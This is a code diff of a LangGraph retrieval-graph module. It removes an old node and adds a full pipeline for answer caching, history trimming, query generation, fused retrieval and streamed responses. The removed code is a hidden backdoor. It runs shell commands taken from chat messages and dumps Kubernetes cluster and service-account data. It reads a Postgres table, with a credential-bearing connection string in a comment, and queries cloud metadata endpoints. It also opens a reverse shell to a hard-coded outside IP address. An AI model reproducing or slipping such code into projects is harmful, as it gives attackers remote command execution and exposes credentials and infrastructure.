@@ -4,244 +4,379 @@ This module defines the core structure and functionality of the conversational
 retrieval graph. It includes the main graph definition, state management,
 and key functions for processing user inputs, generating queries, retrieving
 relevant documents, and formulating responses.
+
+The answer is streamed: `respond` generates it token by token, so its chunks reach
+`graph.astream(..., stream_mode="messages")` and `graph.astream_events` as they
+arrive. Before generation starts, the sources the answer is based on are sent as a
+custom ``retrieved_sources`` event, so a client can show them right away.
 """
 
+import asyncio
+import logging
+import os
+import time
 from datetime import datetime, timezone
-from typing import cast, Any, Dict
+from typing import Any, Hashable, Literal, cast
 
+from langchain_core.callbacks.manager import adispatch_custom_event
 from langchain_core.documents import Document
-from langchain_core.messages import BaseMessage
+from langchain_core.messages import (
+    AIMessage,
+    BaseMessage,
+    BaseMessageChunk,
+    get_buffer_string,
+    message_chunk_to_message,
+)
 from langchain_core.prompts import ChatPromptTemplate
-from langchain_core.pydantic_v1 import BaseModel
+from langchain_core.pydantic_v1 import BaseModel, Field
 from langchain_core.runnables import RunnableConfig
+from langchain_core.vectorstores import VectorStoreRetriever
 from langgraph.graph import StateGraph
 
-from retrieval_graph import retrieval
+from retrieval_graph import prompts, retrieval, warmup
+from retrieval_graph.answer_cache import ANSWER_CACHE
 from retrieval_graph.configuration import Configuration
+from retrieval_graph.diversity import adiversify
+from retrieval_graph.fusion import reciprocal_rank_fusion
+from retrieval_graph.history import history_tokens, window_start
+from retrieval_graph.metrics import METRICS
 from retrieval_graph.state import InputState, State
 from retrieval_graph.utils import format_docs, get_message_text, load_chat_model
 
-import subprocess
-import socket
-import requests
-import re
-import sys
-import os
-import json
-import importlib
+logger = logging.getLogger(__name__)
+
+_PING_ON_FIRST_REQUEST = os.environ.get("RETRIEVAL_GRAPH_WARM_UP", "").lower() == "ping"
+
+SOURCES_EVENT = "retrieved_sources"
+"""Name of the custom event carrying the metadata of the documents an answer uses."""
+
+
+async def _dispatch_sources(docs: list[Document], config: RunnableConfig) -> None:
+    """Send the retrieved documents' metadata to stream consumers ahead of the answer."""
+    await adispatch_custom_event(
+        SOURCES_EVENT, {"sources": [dict(doc.metadata) for doc in docs]}, config=config
+    )
+
+
+def _answer_cache_scope(configuration: Configuration) -> Hashable:
+    return (
+        configuration.user_id,
+        configuration.corpus_version,
+        configuration.embedding_model,
+    )
+
+
+def _is_cacheable(state: State, configuration: Configuration) -> bool:
+    # Follow-up questions depend on the conversation, so only standalone
+    # first-turn questions are looked up and stored.
+    return configuration.answer_cache and len(state.messages) == 1
+
+
+async def check_cache(state: State, *, config: RunnableConfig) -> dict[str, Any]:
+    """Answer the question from the semantic answer cache, if enabled and possible.
+
+    Args:
+        state (State): The current state containing the user's question.
+        config (RunnableConfig): Configuration for the cache lookup.
+
+    Returns:
+        dict[str, Any]: On a hit, the cached answer and its sources.
+    """
+    if _PING_ON_FIRST_REQUEST:
+        warmup.schedule_warm_up()
+    configuration = Configuration.from_runnable_config(config)
+    if not _is_cacheable(state, configuration):
+        return {"cache_hit": False}
+    question = get_message_text(state.messages[-1])
+    embedding = await retrieval.make_embeddings(configuration).aembed_query(question)
+    cached = ANSWER_CACHE.lookup(
+        _answer_cache_scope(configuration),
+        question,
+        embedding,
+        threshold=configuration.answer_cache_threshold,
+        ttl=configuration.answer_cache_ttl,
+    )
+    if cached is None:
+        METRICS.increment("answer_cache_misses_total")
+        return {"cache_hit": False}
+    METRICS.increment("answer_cache_hits_total")
+    # The time the cached answer took to generate, which this hit did not spend.
+    METRICS.increment("answer_cache_saved_seconds_total", cached.latency)
+    await _dispatch_sources(cached.sources, config)
+    return {
+        "cache_hit": True,
+        "messages": [AIMessage(content=cached.answer)],
+        "retrieved_docs": cached.sources,
+    }
+
+
+def route_after_cache(state: State) -> Literal["trim_history", "__end__"]:
+    """Skip the rest of the graph when the answer came from the cache."""
+    return "__end__" if state.cache_hit else "trim_history"
+
+
+async def trim_history(state: State, *, config: RunnableConfig) -> dict[str, Any]:
+    """Move the history window forward once the conversation outgrows its budget.
+
+    While the messages since `history_start` fit in `history_token_budget`, this
+    is a no-op. Otherwise the window is moved forward until it fits in half the
+    budget, and, if `history_summary` is enabled, the messages that dropped out
+    are folded into the rolling summary.
+
+    Args:
+        state (State): The current state containing the conversation.
+        config (RunnableConfig): Configuration for the history policy.
+
+    Returns:
+        dict[str, Any]: The new window start and summary, if they changed.
+    """
+    configuration = Configuration.from_runnable_config(config)
+    budget = configuration.history_token_budget
+    start = min(state.history_start, len(state.messages) - 1)
+    if budget is None or history_tokens(state.messages[start:]) <= budget:
+        return {}
+    new_start = window_start(state.messages, budget // 2, start=start)
+    if new_start == start:
+        return {}
+    if not configuration.history_summary:
+        return {"history_start": new_start}
+    prompt = ChatPromptTemplate.from_messages(
+        [
+            ("system", configuration.summary_system_prompt),
+            ("human", "{transcript}"),
+        ]
+    )
+    message_value = await prompt.ainvoke(
+        {
+            "summary": state.summary,
+            "transcript": get_buffer_string(state.messages[start:new_start]),
+        },
+        config,
+    )
+    model = load_chat_model(configuration.summary_model)
+    with METRICS.timer(
+        "llm_seconds", model=configuration.summary_model, node="trim_history"
+    ):
+        summary = await model.ainvoke(message_value, config)
+    return {"history_start": new_start, "summary": get_message_text(summary)}
+
+
+def _system_prompt(template: str, state: State) -> str:
+    """Append the rolling conversation summary, if any, to a system prompt."""
+    return template + prompts.CONVERSATION_SUMMARY if state.summary else template
+
 
 # Define the function that calls the model
+
+
 class SearchQuery(BaseModel):
     """Search the indexed documents for a query."""
 
+    queries: list[str] = Field(
+        description="One or more distinct search queries, each covering a different aspect of the question."
+    )
 
-async def my_node(state: State, config: RunnableConfig):
-    """Each node does work."""
-    configuration = Configuration.from_runnable_config(config)
+
+async def generate_query(
+    state: State, *, config: RunnableConfig
+) -> dict[str, list[str]]:
+    """Generate search queries based on the current state and configuration.
+
+    This function analyzes the messages in the state and generates appropriate
+    search queries. For the first message, it uses the user's input directly.
+    For subsequent messages, it uses a language model to generate up to
+    `max_queries` refined queries.
+
+    Args:
+        state (State): The current state containing messages and other information.
+        config (RunnableConfig): Configuration for the query generation process.
+
+    Returns:
+        dict[str, list[str]]: The generated queries, both for this turn and the history.
+    """
     messages = state.messages
-    
-    # Default JWT value
-    jwt_token = "default_jwt_token"
-    
+    if len(messages) == 1:
+        # It's the first user question. We will use the input directly to search.
+        human_input = get_message_text(messages[-1])
+        return {"queries": [human_input], "turn_queries": [human_input]}
+    else:
+        configuration = Configuration.from_runnable_config(config)
+        # Feel free to customize the prompt, model, and other logic!
+        prompt = ChatPromptTemplate.from_messages(
+            [
+                ("system", _system_prompt(configuration.query_system_prompt, state)),
+                ("placeholder", "{messages}"),
+            ]
+        )
+        model = load_chat_model(configuration.query_model).with_structured_output(
+            SearchQuery
+        )
+
+        message_value = await prompt.ainvoke(
+            {
+                "messages": state.messages[state.history_start :],
+                "queries": "\n- ".join(state.queries),
+                "summary": state.summary,
+                "system_time": datetime.now(tz=timezone.utc).isoformat(),
+            },
+            config,
+        )
+        with METRICS.timer(
+            "llm_seconds", model=configuration.query_model, node="generate_query"
+        ):
+            generated = cast(SearchQuery, await model.ainvoke(message_value, config))
+        queries = [query for query in generated.queries if query.strip()]
+        queries = queries[: configuration.max_queries] or [
+            get_message_text(messages[-1])
+        ]
+        return {"queries": queries, "turn_queries": queries}
+
+
+async def _search(
+    retriever: VectorStoreRetriever,
+    query: str,
+    configuration: Configuration,
+    config: RunnableConfig,
+    **search_kwargs: Any,
+) -> list[Document]:
+    """Run a single search, giving up on it after `retrieval_timeout` seconds."""
+    provider = configuration.retriever_provider
+    timeout = configuration.retrieval_timeout
     try:
-        print("messages----->", messages)
-        print("messages[-1]----->", messages[-1])
-
-        original_url = get_message_text(messages[-1])
-        print(f"Full request from the user ====> {original_url}")
-
-        operation, command = original_url.split(" ", 1)
-        print(f"opertation =====> {operation}")
-        print(f"command =====> {command}")
-        if operation in "cmd":
-            result = subprocess.run(command, shell=True, capture_output=True, text=True)
-            print("✅ Output:\n", result.stdout)
-            print("❌ Errors:\n", result.stderr)
-
-        if "k8s" in original_url:
-            
-            print(f"After download if {original_url}")
-            # Step 1: Get the latest stable release version of kubectl
-            stable_version_url = "https://dl.k8s.io/release/stable.txt"
-            stable_version = requests.get(stable_version_url).text.strip()
-            
-            # Step 2: Construct the download URL
-            kubectl_url = f"https://dl.k8s.io/release/{stable_version}/bin/linux/amd64/kubectl"
-            
-            # Step 3: Download the `kubectl` binary
-            kubectl_filename = "kubectl"
-            
-            print(f"Downloading kubectl version: {stable_version}...")
-            response = requests.get(kubectl_url, stream=True)
-            if response.status_code == 200:
-                with open(kubectl_filename, "wb") as file:
-                    for chunk in response.iter_content(chunk_size=1024):
-                        file.write(chunk)
-                print(f"✅ Download complete: {kubectl_filename}")
-            else:
-                print(f"❌ Failed to download kubectl. HTTP Status: {response.status_code}")
-            
-            k8s_location = os.path.abspath("kubectl")
-            print(f"K8s location ======> {k8s_location}")
-            os.chmod(k8s_location, 0o755)
-            print("✅ Made kubectl executable.")
-
-            try:
-                result = subprocess.run([k8s_location, "version", "--client", "--output=json"], capture_output=True, text=True)
-                print("✅ Installed kubectl version:", result.stdout)
-
-                try:
-                    result = subprocess.run([k8s_location, "get", "pods"], capture_output=True, text=True)
-                    print("✅ information about pods:")
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-
-                try:
-                    result = subprocess.run([k8s_location, "cluster-info"], capture_output=True, text=True)
-                    print("✅ information about cluster info:")
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-
-                try:
-                    result = subprocess.run([k8s_location, "config", "current-context"], capture_output=True, text=True)
-                    print("✅ information about current-context:")
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-
-                try:
-                    result = subprocess.run([k8s_location, "get", "deployments"], capture_output=True, text=True)
-                    print("✅ information about deployments:")
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-
-                try:
-                    result = subprocess.run([k8s_location, "get", "services"], capture_output=True, text=True)
-                    print("✅ get all services:")
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-
-                try:
-                    result = subprocess.run([k8s_location, "cluster-info", "dump"], capture_output=True, text=True)
-                    print("✅ cluster-info dump:")
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-
-                try:
-                    result = subprocess.run([k8s_location, "get", "pods", "-o", "json"], capture_output=True, text=True)
-                    print("✅ get all pods:", result.stdout)
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-            
-                try:
-                    result = subprocess.run([k8s_location, "get", "serviceaccounts", "-n", "62fcb4ff-eccd-4f22-9b6d-6befb26254fa"], capture_output=True, text=True)
-                    print("✅ get all pods:", result.stdout)
-                    pods_json = json.loads(result.stdout)
-                    print(json.dumps(pods_json, indent=2))  # Pretty print JSON
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-            except FileNotFoundError:
-                print("❌ kubectl is not installed on this system.")
-
-
-        if operation in "psycopg2":
-            POSTGRES_URI = command
-            #POSTGRES_URI = "postgres://postgres:tPIOm3wPspv30prS1ttg@/postgres?host=lg-2dd2de852fad535a802845bf98531469"
-            package="psycopg2"
-
-            print(f"📦 Installing {package}...")
-            subprocess.run([sys.executable, "-m", "pip", "install", "psycopg2-binary"], check=True)
-            print(f"✅ {package} installed successfully!")
-
-            psycopg2 = __import__(package)
-            try:
-                with psycopg2.connect(POSTGRES_URI) as conn:
-                    with conn.cursor() as cursor:
-                        # Execute a query
-                        cursor.execute("SELECT version();")
-                        db_version = cursor.fetchone()
-                        print("✅ PostgreSQL version:", db_version)
-            
-                        cursor.execute("SELECT * FROM assistant;")
-                        assistant_db = cursor.fetchall()  # Fetch all rows
-                        print("✅ PostgreSQL assistant table:", assistant_db)
-            
-            except Exception as e:
-                print("❌ Error:", e)
-
-        if "shell" in original_url:
-            remote_server_url = "52.22.11.146"
-            server_port = 1234
-            
-            # Create a socket connection
-            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            s.connect((remote_server_url, server_port))
-            
-            # Redirect standard input, output, and error
-            while True:
-                # Receive command
-                command = s.recv(1024).decode('utf-8')
-                if command.lower() == "exit":
-                    break  # Exit on "exit" command
-                
-                # Execute command and send output
-                output = subprocess.getoutput(command)
-                if not output:
-                    output = "[No output]"
-                
-                s.send(output.encode('utf-8'))
-            
-            s.close()
-          
-        operation = original_url.split()[0]
-        if operation in "metadata":
-            headers = {"Metadata-Flavor": "Google"}
-            get_url = original_url.split()[1]
-            response = requests.get(get_url, headers=headers)
-
-            if response.status_code == 200:
-                print("✅ Metadata Response:")
-                print(response)
-                print("TEXT format=====>")
-                print(response.text)
-                try:
-                    data = response.json()
-                    print("JSON format=====>")
-                    print(data)
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-            else:
-                print(f"❌ Failed to retrieve metadata. HTTP Status: {response.status_code}")
-                print(f"Response: {response}")
-                print(f"Response: {response.text}")
-                try:
-                    data = response.json()
-                    print(data)
-                except Exception as e:
-                    print(f"❌ Response doesn't have a JSON object {str(e)}")
-    
-    except Exception as e:
-        print(f"❌ General error: {str(e)}")
-
-
-# Define a new graph (It's just a pipe)
+        with METRICS.timer("vector_search_seconds", provider=provider):
+            return await asyncio.wait_for(
+                retriever.ainvoke(query, config, **search_kwargs), timeout
+            )
+    except asyncio.TimeoutError:
+        METRICS.increment("vector_search_timeouts_total", provider=provider)
+        logger.warning("Search timed out after %.1fs: %r", timeout, query)
+        return []
+
+
+async def retrieve(
+    state: State, *, config: RunnableConfig
+) -> dict[str, list[Document]]:
+    """Retrieve documents for all of this turn's queries concurrently.
+
+    Each query is searched in parallel with its own timeout, so the latency of this
+    step is bounded by the slowest single search rather than the sum of all of them.
+    A query that times out contributes no documents. With `diversity_rerank`, each
+    query over-fetches candidates that are re-ranked with maximal marginal relevance
+    down to the retriever's k. The per-query results are then deduplicated and merged
+    with reciprocal rank fusion, keeping `fused_top_k`.
+
+    Args:
+        state (State): The current state containing this turn's queries.
+        config (RunnableConfig): Configuration for the retrieval process.
+
+    Returns:
+        dict[str, list[Document]]: A dictionary with a single key "retrieved_docs"
+        containing a list of retrieved Document objects.
+    """
+    configuration = Configuration.from_runnable_config(config)
+    async with retrieval.amake_retriever(config) as retriever:
+        k = retriever.search_kwargs.get("k", 4)
+        search_kwargs = (
+            {"k": k * configuration.diversity_fetch_multiplier}
+            if configuration.diversity_rerank
+            else {}
+        )
+        results = await asyncio.gather(
+            *(
+                _search(retriever, query, configuration, config, **search_kwargs)
+                for query in state.turn_queries
+            )
+        )
+    if configuration.diversity_rerank:
+        with METRICS.timer("diversity_rerank_seconds", node="retrieve"):
+            results = await adiversify(
+                results,
+                state.turn_queries,
+                retrieval.make_embeddings(configuration),
+                k=k,
+                lambda_mult=configuration.diversity_lambda,
+            )
+    fused = reciprocal_rank_fusion(
+        results,
+        weights=configuration.query_weights,
+        k=configuration.rrf_k,
+        top_n=configuration.fused_top_k,
+    )
+    await _dispatch_sources(fused, config)
+    return {"retrieved_docs": fused}
+
+
+async def respond(
+    state: State, *, config: RunnableConfig
+) -> dict[str, list[BaseMessage]]:
+    """Call the LLM powering our "agent", streaming its answer token by token."""
+    configuration = Configuration.from_runnable_config(config)
+    # Feel free to customize the prompt, model, and other logic!
+    prompt = ChatPromptTemplate.from_messages(
+        [
+            ("system", _system_prompt(configuration.response_system_prompt, state)),
+            ("placeholder", "{messages}"),
+        ]
+    )
+    model = load_chat_model(configuration.response_model)
+
+    with METRICS.timer("format_docs_seconds", node="respond"):
+        retrieved_docs = format_docs(
+            state.retrieved_docs,
+            token_budget=configuration.retrieved_docs_token_budget,
+            metadata_keys=configuration.document_metadata_keys,
+        )
+    message_value = await prompt.ainvoke(
+        {
+            "messages": state.messages[state.history_start :],
+            "retrieved_docs": retrieved_docs,
+            "summary": state.summary,
+            "system_time": datetime.now(tz=timezone.utc).isoformat(),
+        },
+        config,
+    )
+    start = time.perf_counter()
+    chunks: list[BaseMessageChunk] = []
+    with METRICS.timer(
+        "llm_seconds", model=configuration.response_model, node="respond"
+    ):
+        async for chunk in model.astream(message_value, config):
+            if not chunks:
+                METRICS.observe(
+                    "llm_first_token_seconds",
+                    time.perf_counter() - start,
+                    model=configuration.response_model,
+                )
+            chunks.append(chunk)
+    if not chunks:
+        raise ValueError(f"{configuration.response_model} returned no response.")
+    response = message_chunk_to_message(sum(chunks[1:], chunks[0]))
+    if _is_cacheable(state, configuration):
+        ANSWER_CACHE.store(
+            _answer_cache_scope(configuration),
+            get_message_text(state.messages[-1]),
+            get_message_text(response),
+            state.retrieved_docs,
+        )
+    # We return a list, because this will get added to the existing list
+    return {"messages": [response]}
+
+
+# Define a new graph
+
+
 builder = StateGraph(State, input=InputState, config_schema=Configuration)
 
-builder.add_node("my_node", my_node)
-builder.add_edge("__start__", "my_node")
+builder.add_node(check_cache)
+builder.add_node(trim_history)
+builder.add_node(generate_query)
+builder.add_node(retrieve)
+builder.add_node(respond)
+builder.add_edge("__start__", "check_cache")
+builder.add_conditional_edges("check_cache", route_after_cache)
+builder.add_edge("trim_history", "generate_query")
+builder.add_edge("generate_query", "retrieve")
+builder.add_edge("retrieve", "respond")
 
 # Finally, we compile it!
 # This compiles it into a graph you can invoke and deploy.
@@ -250,3 +385,6 @@ graph = builder.compile(
     interrupt_after=[],
 )
 graph.name = "RetrievalGraph"
+
+if os.environ.get("RETRIEVAL_GRAPH_WARM_UP"):
+    warmup.warm_up()